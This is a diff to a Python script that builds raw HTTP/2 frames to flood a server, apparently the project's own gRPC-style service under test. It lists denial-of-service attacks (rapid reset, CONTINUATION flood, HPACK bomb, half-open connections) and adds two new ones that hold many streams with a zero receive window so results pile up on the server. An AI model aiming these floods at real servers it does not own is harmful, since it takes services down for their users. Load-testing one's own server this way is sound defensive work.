@@ -1,7 +1,7 @@
 #!/usr/bin/python3
-"""What a peer may do to a server without a token, by hand-made HTTP/2 frames over TLS or plain text.
+"""What a peer may do to a server with and without a token, by hand-made HTTP/2 frames over TLS or plain text.
 
-  attacks.py ATTACK --to HOST:PORT [--ca FILE] [--seconds S] [--source ADDRESS] [--token FILE]
+  attacks.py ATTACK --to HOST:PORT [--ca FILE] [--seconds S] [--source ADDRESS] [--token FILE] [--solve NAME]
 
 Goes on for S seconds, connecting again whenever it is thrown out, and prints one line of JSON: connections made and
 refused, bytes and streams sent. Exit code 0 whatever the server did.
@@ -51,6 +51,7 @@ class Attacker:
         self.address = (host, int(port))
         self.source, self.end = arguments.source, time.monotonic() + arguments.seconds
         self.token = open(arguments.token, "rb").read().strip() if arguments.token else b""
+        self.solve, self.connections, self.streams = arguments.solve.encode(), arguments.connections, arguments.streams
         self.tls = ssl.create_default_context(cafile=arguments.ca) if arguments.ca else None
         if self.tls:
             self.tls.set_alpn_protocols(["h2"])
@@ -266,21 +267,30 @@ class Attacker:
             return peer
         self.hold(ask, 200)
 
-    def unread_answers(self):
+    def unread_answers(self, method=b"ListModels", request=b""):
         """Calls with a token whose answers the windows of the client do not let out."""
-        block, message = call(b"ListModels", self.token), b"\0" * 5
+        block, message = call(method, self.token), b"\0" + struct.pack(">I", len(request)) + request
 
         def ask():
             peer = self.connect(settings=struct.pack(">HI", 4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE
             if peer is not None:
-                self.send(peer, b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
-                                         frame(DATA, END_STREAM, 2 * i + 1, message) for i in range(1000)), 1000)
+                calls = [frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, END_STREAM, 2 * i + 1, message)
+                         for i in range(self.streams)]
+                self.send(peer, b"".join(calls), self.streams)
             return peer
-        self.hold(ask, 200)
+        self.hold(ask, self.connections)
+
+    def unread_results(self):
+        """The same with GetSolve of one solve, whose result is long."""
+        self.unread_answers(b"GetSolve", b"\x0a" + text(self.solve))
+
+    def unread_watches(self):
+        """The same with streams of a finished solve, whose last event is its result."""
+        self.unread_answers(b"WatchSolve", b"\x0a" + text(self.solve))
 
 
 ATTACKS = ("continuation_flood", "rapid_reset", "hpack_varint", "hpack_bomb", "idle_connections", "half_handshakes",
-           "half_calls", "half_bodies", "unread_refusals", "unread_answers")
+           "half_calls", "half_bodies", "unread_refusals", "unread_answers", "unread_results", "unread_watches")
 
 
 def main():
@@ -291,6 +301,9 @@ def main():
     parser.add_argument("--seconds", type=float, default=10)
     parser.add_argument("--source", default="127.0.0.2", help="address to come from")
     parser.add_argument("--token", help="file with a bearer token")
+    parser.add_argument("--solve", default="", help="solves/ID of the token's tenant, for unread_results and _watches")
+    parser.add_argument("--connections", type=int, default=200, help="of unread_answers, _results and _watches")
+    parser.add_argument("--streams", type=int, default=1000, help="of each such connection")
     arguments = parser.parse_args()
     attacker = Attacker(arguments)
     getattr(attacker, arguments.attack)()
